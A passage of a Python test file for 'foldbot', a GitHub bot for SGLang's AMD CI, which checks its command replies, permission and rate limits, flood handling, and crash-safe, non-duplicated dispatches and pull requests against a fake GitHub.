    repo.put_files("main", {".github/workflows/cuda.yml": "on: push\njobs: {}\n"}, message="CI")
    fake_github.add_installation(31337, [repo])
    sha = repo.put_files("feature", {"x.py": "1\n"}, message="x")
    pull = fake_github.add_pull(repo, 7, head_ref="feature", head_sha=sha, files=["x.py"])
    world = World(fake_github, repo)
    await say(bot, world, pull.number, "/fold help\n/fold refresh", "passer-by")
    (reply,) = replies(fake_github, world, pull.number)
    help_part, refresh_part = reply.body.split("\n\n---\n\n")
    none = ("This repository has no lane: no workflow file on its default branch matches `lanes` in "
            "`.github/foldbot.yml` (`.github/workflows/pr-test-amd.yml`, `.github/workflows/pr-test-amd-rocm*.yml`).")
    assert help_part.endswith(f"- `/fold help`: this text.\n\n{none}")
    assert refresh_part.startswith(f"> /fold refresh\n\n{none} There is no report to refresh.\n")


async def test_help_with_a_broken_config_says_what_is_broken_and_still_helps(fake_github: FakeGitHub, bot: Bot) -> None:
    """A broken `.github/foldbot.yml` refuses every command with its error; `/fold help` is what someone
    asks for then, so it gives the error and the commands too (the lanes are not known, so none listed),
    while `/fold refresh` beside it is refused with the error alone."""
    world = sglang_world(fake_github, runs=2)
    number, _ = pr_with_lane_run(world)
    world.repo.put_files("main", {".github/foldbot.yml": "fold: {max_test_mins: 10}\n"}, message="config")
    comment_id = await say(bot, world, number, "/fold help\n/fold refresh", "passer-by")
    (reply,) = replies(fake_github, world, number)
    help_part, refresh_part = reply.body.split("\n\n---\n\n")
    error = ("foldbot cannot read this repository's CI files: .github/foldbot.yml: `fold.max_test_mins` is not a "
             "setting; did you mean `fold.max_test_minutes`?")
    assert help_part == (
        f"> /fold help\n\n{error}\n\nUntil that is fixed, every command but this one is refused. What they do (the "
        "permissions are the defaults; `.github/foldbot.yml` may set others):\n\nfoldbot's commands on a pull request:"
        "\n\n- `/dispatch <lane> [<job-id> ...] [sha=<hex>]`: run the GPU jobs of a lane that its change filter skipped "
        "(or the named jobs); needs **write**. On a PR from a fork, `sha=` must name the head commit you reviewed, by "
        "its full 40-digit SHA.\n"
        "- `/fold approve [<patch-id>]`: commit the report's patch on a branch and open a PR; needs **maintain**.\n"
        "- `/fold refresh`: recompute the report from the latest lane run of this PR.\n- `/fold help`: this text.")
    assert refresh_part.startswith(f"> /fold refresh\n\n{error}\n")
    assert reactions(fake_github, world, comment_id) == ["eyes", "confused"]


#: A lane whose file has no `workflow_dispatch` trigger: `/dispatch` cannot run it.
UNDISPATCHABLE_LANE = """name: PR Test (AMD)
on:
  pull_request:
jobs:
  unit-mi300:
    runs-on: linux-mi300-gpu-1
    steps:
      - run: pytest tests/unit
"""


@pytest.mark.parametrize("trigger,lacks", [
    ("", "no `workflow_dispatch` trigger"),
    ("  workflow_dispatch:\n    inputs:\n      pr_head_sha: {type: string}\n",
     "no `target_stage` (or `target_stage_select`) input under `workflow_dispatch`"),
])
async def test_help_says_a_lane_cannot_be_dispatched_and_why(fake_github: FakeGitHub, bot: Bot, trigger: str,
                                                             lacks: str) -> None:
    """`/fold help` lists a lane's jobs only when `/dispatch` can run them; for a lane it
    cannot, it says what the file lacks, as `/dispatch` then answers."""
    world = sglang_world(fake_github, runs=1)
    world.repo.put_files("main", {AMD: UNDISPATCHABLE_LANE.replace("jobs:\n", f"{trigger}jobs:\n")})
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, "/fold help\n/dispatch amd unit-mi300", "writer")
    help_part, dispatch_part = replies(fake_github, world, number)[0].body.split("\n\n---\n\n")
    assert (f"\n\nLane `amd` (`{AMD}`): cannot be dispatched: the file has {lacks} (`/dispatch` names the jobs to "
            "run in a `target_stage` input of the lane's `workflow_dispatch` trigger).\nLane `rocm720` "
            f"(`{ROCM720}`): `sgl-kernel-unit-test-amd-rocm720`, ") in help_part
    assert dispatch_part.startswith(
        f"> /dispatch amd unit-mi300\n\n`{AMD}` has {lacks}: `/dispatch` cannot run `amd` (it names the jobs to run "
        "in a `target_stage` input of the lane's `workflow_dispatch` trigger).\n\n")
    assert fake_github.dispatches == []


def dashboard_issue(world):  # noqa: ANN001, ANN201
    (issue,) = [i for i in world.repo.issues.values() if i.title == "foldbot: AMD CI setup report"]
    return issue


async def test_a_refresh_on_an_old_pr_leaves_the_dashboard_to_the_latest_run(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github)
    last, oldest = world.runs[-1], world.runs[0]
    await bot.deliver("workflow_run", world.payload(last["id"]))
    await bot.settle()
    before = dashboard_issue(world).body
    number = oldest["pull_requests"][0]["number"]
    await say(bot, world, number, "/fold refresh", "passer-by")
    assert dashboard_issue(world).body == before  # still as of the latest run
    assert read_state(before)["head_sha"] == last["head_sha"]
    (reply,) = replies(fake_github, world, number)
    url = f"https://github.com/sgl-project/sglang/actions/runs/{oldest['id']}"
    issue = dashboard_issue(world).number
    assert reply.body.startswith(
        f"> /fold refresh\n\nReport refreshed from [run {oldest['id']}]({url}). The [dashboard issue #{issue}]"
        f"(https://github.com/sgl-project/sglang/issues/{issue}) stays on the lane's latest completed run, newer "
        "than this one.\n\n")
    (report,) = [c for c in fake_github.comments_on(world.repo, number) if c.user == LOGIN and "foldbot:report" in c.body]
    assert (read_state(report.body)["head_sha"], read_state(report.body)["runs"][-1]) == (oldest["head_sha"], oldest["id"])


async def test_a_refresh_of_the_lanes_latest_run_moves_the_dashboard_forward(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github)
    last, before_last = world.runs[-1], world.runs[-2]
    await bot.deliver("workflow_run", world.payload(before_last["id"]))  # the delivery of the last run was lost
    await bot.settle()
    assert read_state(dashboard_issue(world).body)["head_sha"] == before_last["head_sha"]
    number = last["pull_requests"][0]["number"]
    await say(bot, world, number, "/fold refresh", "passer-by")
    state = read_state(dashboard_issue(world).body)
    assert (state["head_sha"], state["runs"][-1]) == (last["head_sha"], last["id"])
    (reply,) = replies(fake_github, world, number)
    url = f"https://github.com/sgl-project/sglang/actions/runs/{last['id']}"
    assert reply.body.startswith(f"> /fold refresh\n\nReport refreshed from [run {last['id']}]({url}).\n\n")


async def test_a_refresh_writes_no_pr_comment_with_comment_on_none(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=3)
    world.repo.put_files("main", {".github/foldbot.yml": "comment_on: none\n"})
    last, oldest = world.runs[-1], world.runs[0]
    note = ("`.github/foldbot.yml` says `comment_on: none`: no pull request gets a report comment (`comment_on: ci-prs` "
            "gives one to those that change CI files, `all-prs` to all).\n\n")
    for run in (last, oldest):
        await say(bot, world, run["pull_requests"][0]["number"], "/fold refresh", "passer-by")
    issue = dashboard_issue(world).number
    dashboard = f"[dashboard issue #{issue}](https://github.com/sgl-project/sglang/issues/{issue})"
    assert read_state(dashboard_issue(world).body)["head_sha"] == last["head_sha"]
    link = {run["id"]: f"[run {run['id']}](https://github.com/sgl-project/sglang/actions/runs/{run['id']})"
            for run in (last, oldest)}
    for run, said in ((last, f"Report refreshed from {link[last['id']]} on the {dashboard}. "),
                      (oldest, f"Nothing refreshed: {link[oldest['id']]} is older than the lane's latest completed run, "
                               f"which the {dashboard} reports. ")):
        number = run["pull_requests"][0]["number"]
        assert not [c for c in fake_github.comments_on(world.repo, number) if "foldbot:report" in c.body]
        (reply,) = replies(fake_github, world, number)
        assert reply.body.startswith(f"> /fold refresh\n\n{said}{note}")


@pytest.mark.parametrize("config", ["", "comment_on: none\n"])
async def test_a_refresh_with_issues_turned_off(fake_github: FakeGitHub, bot: Bot, config: str) -> None:
    """No dashboard issue: the PR's comment is the report; with `comment_on: none` there is
    nowhere to write it, and the reply says so (and why), not "refreshed"."""
    world = sglang_world(fake_github, runs=2)
    world.repo.has_issues = False
    if config:
        world.repo.put_files("main", {".github/foldbot.yml": config})
    last = world.runs[-1]
    number = last["pull_requests"][0]["number"]
    comment_id = await say(bot, world, number, "/fold refresh", "passer-by")
    (reply,) = replies(fake_github, world, number)
    reports = [c for c in fake_github.comments_on(world.repo, number) if "foldbot:report" in c.body]
    link = f"[run {last['id']}](https://github.com/sgl-project/sglang/actions/runs/{last['id']})"
    if config:
        assert reports == [] and reactions(fake_github, world, comment_id) == ["eyes", "confused"]
        assert reply.body.startswith("> /fold refresh\n\nNothing refreshed: `.github/foldbot.yml` says `comment_on: "
                                     "none`: no pull request gets a report comment (`comment_on: ci-prs` gives one to "
                                     "those that change CI files, `all-prs` to all). Issues are turned off in this "
                                     "repository, so it has no dashboard issue")
    else:
        assert len(reports) == 1 and reply.body.startswith(f"> /fold refresh\n\nReport refreshed from {link}.\n\n")


@pytest.mark.parametrize("issues,change", [(True, "config"), (False, "config"), (True, "lane")],
                         ids=["dashboard", "issues-off", "lane-removed"])
async def test_a_refresh_that_cannot_analyse_the_run_says_nothing_was_refreshed(fake_github: FakeGitHub, bot: Bot,
                                                                                issues: bool, change: str) -> None:
    """A broken `.github/foldbot.yml` lands on main while the refresh looks for the lane's run:
    the report is not made (the dashboard says what to fix instead), and the reply says so; so
    does it when the lane file left main meanwhile."""
    world = sglang_world(fake_github, runs=2)
    world.repo.has_issues = issues
    last = world.runs[-1]
    number = last["pull_requests"][0]["number"]
    fake_github.set_latency(1.5, method="GET", path=r"/actions/workflows/[^/]+/runs$")
    payload = comment_payload(world, number, "/fold refresh", "passer-by")
    read = fake_github.count("GET", rf"/pulls/{number}$")
    assert (await bot.deliver("issue_comment", payload))[0] == 202
    await until(lambda: fake_github.count("GET", rf"/pulls/{number}$") > read)  # the command read the config before
    world.repo.put_files("main", {".github/foldbot.yml": "fold: {max_test_mins: 10}\n"} if change == "config" else
                         {ROCM720: None})
    await bot.settle()
    (reply,) = replies(fake_github, world, number)
    assert [c for c in fake_github.comments_on(world.repo, number) if "foldbot:report" in c.body] == []
    assert reactions(fake_github, world, int(payload["comment"]["id"])) == ["eyes", "confused"]
    ran = f"[run {last['id']}](https://github.com/sgl-project/sglang/actions/runs/{last['id']})"
    if change == "lane":
        assert reply.body.startswith(f"> /fold refresh\n\nNothing refreshed: the workflow of {ran} is no longer a "
                                     "lane on `main`.\n\n")
    elif issues:
        issue = dashboard_issue(world)
        assert "foldbot could not analyse sgl-project/sglang: .github/foldbot.yml: " in issue.body
        assert reply.body.startswith(f"> /fold refresh\n\nNothing refreshed: foldbot could not analyse {ran}; the "
                                     f"[dashboard issue #{issue.number}](https://github.com/sgl-project/sglang/issues/"
                                     f"{issue.number}) says what to fix.\n\n")
    else:
        assert reply.body.startswith(f"> /fold refresh\n\nNothing refreshed: foldbot could not analyse {ran}: "
                                     ".github/foldbot.yml: \\`fold.max\\_test\\_mins\\` is not a setting; did you "
                                     "mean \\`fold.max\\_test\\_minutes\\`?\n\n")


async def test_an_allowlisted_reader_may_dispatch_without_cooldown(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    world.repo.put_files("main", {".github/CI_PERMISSIONS.json":
                                  '{"helper": {"can_rerun_stage": true, "cooldown_interval_minutes": 0}, "other": 1}'})
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "helper", "read")
    for _ in range(2):
        await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "helper")
    assert len(fake_github.dispatches) == 2


async def test_a_branch_with_other_content_is_never_overwritten(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    sha = world.repo.put_files(branch, {"NOTES.md": "someone else's work\n"})
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert world.repo.branch_sha(branch) == sha
    assert not [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert f"The branch `{branch}` already exists with other content" in replies(fake_github, world, number)[0].body


# --- crashes, floods and bounds -------------------------------------------------------------------

async def test_a_dispatch_interrupted_after_github_accepted_it_is_not_sent_twice(fake_github: FakeGitHub,
                                                                                 bot: Bot) -> None:
    """The reply is written (pending) before the dispatch; foldbot then fails before it
    can finish the reply (here: GitHub refuses every edit, as if the process died). The
    redelivered comment finds the run the first delivery started, by its title and time,
    and finishes the reply with it: one GPU run, one reply."""
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    without_run_details(fake_github)
    payload = comment_payload(world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    fake_github.fail_next(6, status=502, method="PATCH", path=r"/issues/comments/\d+$")
    await bot.deliver("issue_comment", payload, delivery="first")
    await bot.settle()
    (dispatch,) = fake_github.dispatches
    (reply,) = replies(fake_github, world, number)
    assert "Working on it" in reply.body and read_state(reply.body)["pending"] is True
    await bot.deliver("issue_comment", payload, delivery="first")  # GitHub's redelivery keeps the id
    await bot.settle()
    assert len(fake_github.dispatches) == 1
    (reply,) = replies(fake_github, world, number)
    assert f"[run {dispatch.run_id}](" in reply.body and read_state(reply.body)["pending"] is False
    assert read_state(reply.body)["commands"][0]["run_id"] == dispatch.run_id


async def test_a_resumed_dispatch_waits_for_github_to_list_the_run_it_created(
        fake_github: FakeGitHub, bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    """GitHub answers a dispatch 204 and creates its run after: here the run is listed 1.5 s
    after the dispatch. foldbot stops right after the dispatch (its next calls fail), so its
    reply stays pending. The redelivered comment looks for the run more than once, until
    GitHub lists it, instead of looking once and dispatching a second GPU run."""
    import handlers.dispatch

    monkeypatch.setattr(handlers.dispatch, "IN_FLIGHT_SECONDS", 0.1)
    monkeypatch.setattr(handlers.dispatch, "LISTED_SECONDS", 4.0)
    monkeypatch.setattr(handlers.dispatch, "LOOK_EVERY_SECONDS", 0.2)
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    without_run_details(fake_github)
    fake_github.dispatch_listing_lag = 1.5

    def stop_here(dispatch: object, run: object) -> None:  # what the process does after the dispatch fails
        fake_github.fail_next(1, status=404, method="GET", path=r"/actions/workflows/[^/]+/runs$")
        fake_github.fail_next(6, status=502, method="PATCH", path=r"/issues/comments/\d+$")

    fake_github.on_dispatch = stop_here
    payload = comment_payload(world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    await bot.deliver("issue_comment", payload, delivery="first")
    await bot.settle()
    fake_github.on_dispatch = None
    (dispatch,) = fake_github.dispatches
    assert read_state(replies(fake_github, world, number)[0].body)["pending"] is True
    await bot.deliver("issue_comment", payload, delivery="first")  # GitHub's redelivery keeps the id
    await bot.settle()
    assert len(fake_github.dispatches) == 1
    (reply,) = replies(fake_github, world, number)
    assert read_state(reply.body)["commands"][0]["run_id"] == dispatch.run_id
    assert f"[run {dispatch.run_id}](" in reply.body and read_state(reply.body)["pending"] is False


async def test_a_flood_of_commands_gets_one_reply_and_bounded_work(fake_github: FakeGitHub, bot: Bot) -> None:
    """One comment of 3,333 `/dispatch` lines from a reader: one reply, five commands
    read, the rest named in one line; a bounded number of GitHub calls."""
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "reader", "read")
    before = len(fake_github.requests)
    comment_id = await say(bot, world, number, "\n".join(["/dispatch rocm720"] * 3333), "reader")
    (reply,) = replies(fake_github, world, number)
    assert reply.body.count("needs the **write** permission") == 5
    assert "3328 more command lines were not read: at most 5 per comment." in reply.body
    assert fake_github.dispatches == []
    assert reactions(fake_github, world, comment_id) == ["eyes", "confused"]
    assert len(fake_github.requests) - before < 40


async def test_commands_per_user_and_hour_are_bounded(fake_github: FakeGitHub, bot: Bot,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import handlers.issue_comment

    monkeypatch.setattr(handlers.issue_comment, "MAX_PER_HOUR", 2)
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    await say(bot, world, number, "/fold help", "chatty")
    await say(bot, world, number, "/fold help\n/fold help", "chatty")
    first, second = replies(fake_github, world, number)
    assert "foldbot's commands on a pull request" in first.body
    allowed, refused = second.body.split("\n\n---\n\n")
    assert "foldbot's commands on a pull request" in allowed
    assert "chatty ran 2 commands in this repository within the hour; this one was not run." in refused
    await say(bot, world, number, "/fold help", "someone-else")  # the bound is per user
    assert "foldbot's commands on a pull request" in replies(fake_github, world, number)[-1].body


async def test_one_suggestion_is_approved_alone(fake_github: FakeGitHub, bot: Bot) -> None:
    """PR #34483's plan is a fold and a reshard; each has an id of its own, and approving
    the fold commits the fold and not the reshard."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    state = ReportState.from_json(read_state(report.body))
    fold_id = next(i for i, patch, _ in state.suggestions if "multimodal-gen-unit-test-amd-rocm720:" in patch
                   and "--total-partitions 2" not in patch)
    assert fold_id != patch_id and f"Alone: `/fold approve {fold_id}`." in report.body
    assert report.body.index("**Verdict:**") < report.body.index("| job |")
    await say(bot, world, number, f"/fold approve {fold_id}", "lead")
    files = world.repo.files_at(f"foldbot/fold-{fold_id}")
    assert "multimodal-gen-unit-test-amd-rocm720:" not in files[ROCM720]
    assert "--total-partitions 3" in files[ROCM720] and "--total-partitions 2" not in files[ROCM720]
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{fold_id}"]
    body = world.repo.issues[pull.number].body
    assert "**Fold** `multimodal-gen-unit-test-amd-rocm720`" in body and "**Reshard**" not in body


async def test_a_closed_pull_request_is_not_handed_back(fake_github: FakeGitHub, bot: Bot) -> None:
    """Approved, then closed without merging: approving again opens a new pull request;
    once one was merged, approving again says so (and what to do if it was reverted) and
    makes nothing, not even a branch when the merged one was deleted."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (first,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    world.repo.issues[first.number].state = "closed"
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    pulls = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    assert len(pulls) == 2 and world.repo.issues[pulls[-1].number].state == "open"
    assert f"Opened https://github.com/sgl-project/sglang/pull/{pulls[-1].number}" in replies(fake_github, world, number)[-1].body
    world.repo.issues[pulls[-1].number].state = "closed"
    world.repo.issues[pulls[-1].number].closed_at = "2026-12-04T08:00:00Z"
    pulls[-1].merged = True
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert (f"This patch was merged already: https://github.com/sgl-project/sglang/pull/{pulls[-1].number} "
            f"(#{pulls[-1].number}). If that was reverted since, revert the revert") in \
        replies(fake_github, world, number)[-1].body
    assert len([p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]) == 2
    # the repository deletes head branches once merged: approving again makes no branch for nothing
    del world.repo.refs[f"refs/heads/foldbot/fold-{patch_id}"]
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert "This patch was merged already" in replies(fake_github, world, number)[-1].body
    assert f"refs/heads/foldbot/fold-{patch_id}" not in world.repo.refs


async def post_comment(port: int, payload: dict, delivery: str) -> None:
    """A signed `issue_comment` delivery to a running `foldbot serve`: answered 202."""
    body = json.dumps(payload).encode()
    headers = {"X-GitHub-Event": "issue_comment", "X-GitHub-Delivery": delivery, "X-Hub-Signature-256": sign(body)}
    async with aiohttp.ClientSession() as session:
        async with session.post(f"http://127.0.0.1:{port}/webhook", data=body, headers=headers) as response:
            assert response.status == 202


async def restart_and_finish_the_reply(fake: FakeGitHub, world, number: int, data: Path, port: int) -> None:  # noqa: ANN001
    """After a kill -9 the reply is pending; `foldbot serve` started again on the same journal
    resumes the delivery and finishes it (and stops cleanly)."""
    (reply,) = replies(fake, world, number)
    assert read_state(reply.body)["pending"] is True
    second = await serve_process(fake, data, port)
    try:
        await until(lambda: not read_state(replies(fake, world, number)[0].body)["pending"], 30)
    finally:
        second.terminate()
        output, _ = await asyncio.wait_for(second.communicate(), 30)
    assert second.returncode == 0, output.decode()


def _untitled(world) -> None:  # noqa: ANN001
    """The rocm720 lane on main without its `run-name:` (its dispatched runs are titled with its name)."""
    text = world.repo.files_at("main")[ROCM720]
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("run-name:")]
    assert len(lines) == len(text.splitlines()) - 1
    world.repo.put_files("main", {ROCM720: "".join(lines)}, message="no run-name")


@pytest.mark.parametrize("titled", [True, False], ids=["sglangs-run-name", "no-run-name"])
async def test_kill_9_as_github_accepts_a_dispatch_then_the_restart_does_not_dispatch_again(
        fake_github: FakeGitHub, tmp_path: Path, titled: bool) -> None:
    """`foldbot serve` (its web process and worker) is killed -9 at the moment GitHub accepts
    the dispatch, before it hears the answer. The restarted foldbot resumes the delivery from
    its journal, finds its pending reply, and looks for the run: SGLang's lane titles it
    `[<stage>] <sha>` (its own `run-name:`, evaluated by the fake as GitHub does), so the
    reply is finished with that run; a lane without that title cannot be told apart, so
    foldbot says so and does not dispatch again. Either way: one GPU run, one reply."""
    world = sglang_world(fake_github, runs=1)
    if not titled:
        _untitled(world)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    payload = comment_payload(world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    port = free_port()
    first = await serve_process(fake_github, tmp_path, port)
    fake_github.on_dispatch = lambda dispatch, run: os.killpg(first.pid, signal.SIGKILL)
    await post_comment(port, payload, "crash-dispatch")
    await asyncio.wait_for(first.wait(), 30)
    fake_github.on_dispatch = None
    (dispatch,) = fake_github.dispatches
    title = fake_github.run(dispatch.run_id)["display_title"]
    assert title == (f"[stage-a-test-1-gpu-small-amd-rocm720] {sha}" if titled else "PR Test ROCm 7.2 (AMD)")
    await restart_and_finish_the_reply(fake_github, world, number, tmp_path, port)
    assert len(fake_github.dispatches) == 1
    (reply,) = replies(fake_github, world, number)
    if titled:
        assert f"Dispatched `{ROCM720}` on `amd/change-{number}` with " in reply.body
        assert read_state(reply.body)["commands"][0]["run_id"] == dispatch.run_id
        assert "does not title" not in reply.body
    else:
        assert ("foldbot was stopped while it dispatched this command, and foldbot cannot tell whether it started a "
                "run: since "
                f"this command foldbot dispatched `{ROCM720}` on `amd/change-{number}` ([run {dispatch.run_id}](") in reply.body
        assert (f"and the lane does not title its runs `[stage-a-test-1-gpu-small-amd-rocm720] {sha}`. Not dispatched "
                "again, so that GPU time is not spent twice: if no run is this command's, comment the command again.") in reply.body
        assert "Give the lane SGLang's title: `run-name: ${{ (inputs.target_stage" in reply.body


async def test_a_dispatch_reply_says_when_the_lane_does_not_title_its_runs(fake_github: FakeGitHub, bot: Bot) -> None:
    """A lane without `[<stage>] <sha>` titles dispatches as asked; its reply says what that
    costs (a crash in the middle could not be told apart) and how to fix it."""
    world = sglang_world(fake_github, runs=1)
    _untitled(world)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    (reply,) = replies(fake_github, world, number)
    assert f"[run {dispatch.run_id}](" in reply.body
    assert (f"(`{ROCM720}` does not title a dispatched run `[stage-a-test-1-gpu-small-amd-rocm720] "
            f"{dispatch.inputs['pr_head_sha']}`: after a crash in the middle of a dispatch foldbot could not tell whether "
            "it had started the run. Give the lane SGLang's title: `run-name: ") in reply.body


async def test_kill_9_between_the_approval_branch_and_its_pull_request_leaves_nothing_half_made(
        fake_github: FakeGitHub, bot: Bot, tmp_path: Path) -> None:
    """`foldbot serve` is killed -9 after it pushed the approval's branch and while GitHub
    opens the pull request. The restarted foldbot resumes the comment from its journal: the
    branch is the one it made (same tree), so it is kept, not made again, and the pull request
    is opened once; one reply, finished."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    payload = comment_payload(world, number, f"/fold approve {patch_id}", "lead")
    port = free_port()
    fake_github.set_latency(4, method="POST", path=r"/pulls$")  # (the killed call lands after 4 s, as GitHub's would)
    first = await serve_process(fake_github, tmp_path, port)
    await post_comment(port, payload, "crash-approve")
    await until(lambda: world.repo.branch_sha(branch) is not None, 30)
    made = world.repo.branch_sha(branch)
    await asyncio.sleep(0.5)  # into the pull request's call
    os.killpg(first.pid, signal.SIGKILL)
    await asyncio.wait_for(first.wait(), 30)
    fake_github.set_latency(0, method="POST", path=r"/pulls$")
    assert not [p for p in world.repo.pulls.values() if p.head_ref == branch]
    await restart_and_finish_the_reply(fake_github, world, number, tmp_path, port)
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert world.repo.branch_sha(branch) == made and fake_github.count("POST", r"/git/refs$") == 1
    (reply,) = replies(fake_github, world, number)  # (opened by the restarted foldbot, or by the killed call)
    assert f"https://github.com/sgl-project/sglang/pull/{pull.number}" in reply.body
    await asyncio.sleep(4)  # the killed call lands: still one pull request
    assert len([p for p in world.repo.pulls.values() if p.head_ref == branch]) == 1


async def test_a_pull_request_opened_by_a_killed_call_meanwhile_is_linked_not_refused(
        fake_github: FakeGitHub, bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    """After a crash, GitHub may finish the killed process's `POST /pulls` just after the
    resumed approval looked for a pull request: its own is refused (422, one already exists).
    That one is linked: one pull request, and a reply that names it, not an error."""
    from bot.api import RepoAPI

    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    made = RepoAPI.create_branch

    async def then_opened(self, name, sha):  # noqa: ANN001, ANN202
        await made(self, name, sha)
        if name == branch:  # the dead process's call lands now, after the look found no pull request
            fake_github.add_pull(world.repo, head_ref=branch, head_sha=sha, title="the killed call's")

    monkeypatch.setattr(RepoAPI, "create_branch", then_opened)
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    (reply,) = replies(fake_github, world, number)
    assert f"https://github.com/sgl-project/sglang/pull/{pull.number}" in reply.body, reply.body
    assert "GitHub refused" not in reply.body and fake_github.count("POST", r"/pulls$") == 1


async def test_a_dispatch_github_accepted_is_never_said_refused_when_its_run_cannot_be_read(
        fake_github: FakeGitHub, bot: Bot) -> None:
    """GitHub accepted the dispatch, then reading the run it started fails for good: the
    reply says it was dispatched (the run unknown), not "refused", which would invite the
    same command again and a second GPU run."""
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    fake_github.fail_next(20, status=502, method="GET", path=r"/actions/runs/\d+$")
    comment_id = await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    assert len(fake_github.dispatches) == 1
    (reply,) = replies(fake_github, world, number)
    assert (f"Dispatched `{ROCM720}` on `amd/change-{number}` with `target_stage=stage-a-test-1-gpu-small-amd-rocm720`"
            ) in reply.body and "a run (GitHub did not say which; see the Actions tab)" in reply.body
    assert "refused" not in reply.body and reactions(fake_github, world, comment_id) == ["eyes", "rocket"]


@pytest.mark.parametrize("titled", [True, False], ids=["sglangs-run-name", "no-run-name"])
async def test_a_dispatch_github_carried_out_but_answered_502_is_not_sent_again(
        fake_github: FakeGitHub, bot: Bot, titled: bool) -> None:
    """GitHub starts the run and answers 502 (its edge gave up): a retry would start a second
    GPU run. foldbot does not retry the dispatch; it looks for the run it may have started:
    found by its title, the reply names it; on a lane without that title it cannot tell, and
    says so (with the run it may have started), rather than dispatch again."""
    world = sglang_world(fake_github, runs=1)
    if not titled:
        _untitled(world)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    fake_github.fail_after(1, 502, method="POST", path=r"/dispatches$")
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    (reply,) = replies(fake_github, world, number)
    if titled:
        assert f"Dispatched `{ROCM720}` on `amd/change-{number}` with " in reply.body
        assert f": [run {dispatch.run_id}](" in reply.body
        assert read_state(reply.body)["commands"][0]["run_id"] == dispatch.run_id
    else:
        assert ("GitHub did not answer the dispatch (502), and foldbot cannot tell whether it started a run: since "
                f"this command foldbot dispatched `{ROCM720}` on `amd/change-{number}` ([run {dispatch.run_id}](") in reply.body
        assert "Not dispatched again, so that GPU time is not spent twice" in reply.body


_STRING_STAGE = ('      target_stage:\n        description: "Or type comma-separated stage names (overrides dropdown if '
                 'non-empty)"\n        required: false\n        type: string\n        default: ""\n')


@pytest.mark.parametrize("jobs, said", [
    ("stage-a-test-1-gpu-small-amd-rocm720 sgl-kernel-unit-test-amd-rocm720",
     f"`{ROCM720}` takes one stage at a time (`target_stage` is a choice of one job): name one job, `/dispatch rocm720 "
     "<job-id>`, of `stage-a-test-1-gpu-small-amd-rocm720`, `sgl-kernel-unit-test-amd-rocm720`."),
    ("stage-b-test-1-gpu-small-amd-rocm720",
     "Not a job `rocm720` can run: `stage-b-test-1-gpu-small-amd-rocm720`. Valid: `stage-a-test-1-gpu-small-amd-rocm720`, "
     "`sgl-kernel-unit-test-amd-rocm720`."),
])
async def test_a_target_stage_that_is_a_choice_is_sent_one_of_its_options_only(fake_github: FakeGitHub, bot: Bot,
                                                                               jobs: str, said: str) -> None:
    """review84 F02: a lane whose `target_stage` is `type: choice` got a comma-joined value, or a job
    outside its options, and GitHub's 422 "not in the list of allowed values" (nothing ran)."""
    world = sglang_world(fake_github, runs=1)
    text = world.repo.files_at("main")[ROCM720]
    choice = ('      target_stage:\n        description: "Stage to run"\n        required: false\n        type: choice\n'
              '        default: ""\n        options: ["", "stage-a-test-1-gpu-small-amd-rocm720", '
